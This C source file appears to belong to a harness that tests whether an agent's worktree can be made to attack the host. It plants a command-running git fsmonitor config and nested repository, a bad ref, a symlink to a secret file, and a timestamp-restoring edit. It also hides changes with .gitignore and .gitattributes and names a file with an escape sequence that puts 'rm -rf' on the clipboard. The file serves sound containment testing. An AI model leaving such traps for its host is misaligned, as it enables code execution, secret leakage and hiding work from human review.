/* What an agent leaves in its worktree for the host to trip over: rows G2, G3, G5, G6, G10-G12, T1.
 * What counts is what the host does with it; see RJ_ATTACK_LATER. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "core/attack/attack.h"
#include "core/base/buf.h"
#include "core/base/mem.h"
#include "core/base/path.h"
#include "core/sys/file.h"

static int put(const char *dir, const char *name, int flags, const char *text)
{
	RJ_AUTO(rj_free) char *path = rj_path_join(dir, name);
	RJ_AUTO(rj_close)
	int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC | flags, 0644);

	return fd >= 0 && write(fd, text, strlen(text)) == (ssize_t)strlen(text) ? 0 : -1;
}

static enum rj_attack_result left(struct rj_attack_note *note, int rc)
{
	return rc < 0 ? rj_attack_refused(note, "write")
		      : rj_attack_say(note, RJ_ATTACK_WORKED, "left it there");
}

/* Where W/.git leads, or W/.git itself when it is a directory. */
static char *git_dir(const char *work)
{
	RJ_AUTO(rj_free) char *dot = rj_path_join(work, ".git");
	RJ_AUTO(rj_close) int fd = open(dot, O_RDONLY | O_CLOEXEC);
	char text[4096];
	ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof(text) - 1);

	if (n <= 8 || strncmp(text, "gitdir: ", 8) != 0)
		return rj_strdup(dot);
	text[n] = '\0';
	text[strcspn(text, "\n")] = '\0';
	return rj_strdup(text + 8);
}

static char *command_config(const struct rj_attack_site *site)
{
	struct rj_buf b = {0};

	rj_buf_printf(&b, "[core]\n\tfsmonitor = \"touch '%s'; false\"\n", site->mark);
	return rj_buf_take(&b);
}

RJ_ATTEMPT(git_config)
{
	RJ_AUTO(rj_free) char *dir = git_dir(site->work);
	RJ_AUTO(rj_free) char *text = command_config(site);

	return left(note, put(dir, "config", O_APPEND, text));
}

RJ_ATTEMPT(nested_repo)
{
	static const char *const dirs[] = {"sub", "sub/.git", "sub/.git/objects", "sub/.git/refs",
					   "sub/.git/refs/heads"};
	RJ_AUTO(rj_free) char *dir = rj_path_join(site->work, "sub/.git");
	RJ_AUTO(rj_free) char *text = command_config(site);

	for (size_t i = 0; i < RJ_COUNT(dirs); i++) {
		RJ_AUTO(rj_free) char *path = rj_path_join(site->work, dirs[i]);

		if (mkdir(path, 0755) < 0 && errno != EEXIST)
			return rj_attack_refused(note, "mkdir");
	}
	if (put(dir, "HEAD", O_TRUNC, "ref: refs/heads/main\n") < 0)
		return rj_attack_refused(note, "write");
	return left(note, put(dir, "config", O_APPEND, text));
}

RJ_ATTEMPT(bad_ref)
{
	RJ_AUTO(rj_free) char *dir = git_dir(site->work);
	RJ_AUTO(rj_free) char *head = rj_path_join(dir, "HEAD");
	RJ_AUTO(rj_close) int fd = open(head, O_RDONLY | O_CLOEXEC);
	RJ_AUTO(rj_free) char *parent = NULL;
	struct rj_err err;
	char text[512];
	ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof(text) - 1);

	if (n <= 5 || strncmp(text, "ref: ", 5) != 0)
		return rj_attack_refused(note, "HEAD");
	text[n] = '\0';
	text[strcspn(text, "\n")] = '\0';
	parent = rj_path_join(dir, text + 5);
	*strrchr(parent, '/') = '\0';
	if (rj_mkdirs(parent, 0700, &err) < 0)
		return rj_attack_refused(note, "mkdir");
	return left(note,
		    put(dir, text + 5, O_TRUNC, "deadbeefdeadbeefdeadbeefdeadbeefdeadbeef\n"));
}

RJ_ATTEMPT(symlink)
{
	RJ_AUTO(rj_free) char *path = rj_path_join(site->work, "README");

	if (unlink(path) < 0 && errno != ENOENT)
		return rj_attack_refused(note, "unlink");
	return left(note, symlink(site->secret, path));
}

RJ_ATTEMPT(same_stat)
{
	RJ_AUTO(rj_free) char *path = rj_path_join(site->work, "stable");
	RJ_AUTO(rj_close) int fd = open(path, O_WRONLY | O_CLOEXEC);
	struct stat st;

	if (fd < 0 || fstat(fd, &st) < 0 || pwrite(fd, "X", 1, 0) != 1)
		return rj_attack_refused(note, "write");
	return left(note, futimens(fd, (struct timespec[]){st.st_atim, st.st_mtim}));
}

RJ_ATTEMPT(ignored)
{
	if (put(site->work, ".gitignore", O_TRUNC, "*\n") < 0)
		return rj_attack_refused(note, "write");
	return left(note, put(site->work, "unseen", O_TRUNC, "x\n"));
}

RJ_ATTEMPT(attributes)
{
	if (put(site->work, ".gitattributes", O_TRUNC, "* -diff binary\n") < 0)
		return rj_attack_refused(note, "write");
	return left(note, put(site->work, "plain", O_APPEND, "a line to be seen\n"));
}

RJ_ATTEMPT(escape_sequence)
{
	return left(note, put(site->work, "a\033]52;c;cm0gLXJm\a\033[2Jb", O_TRUNC, "x\n"));
}
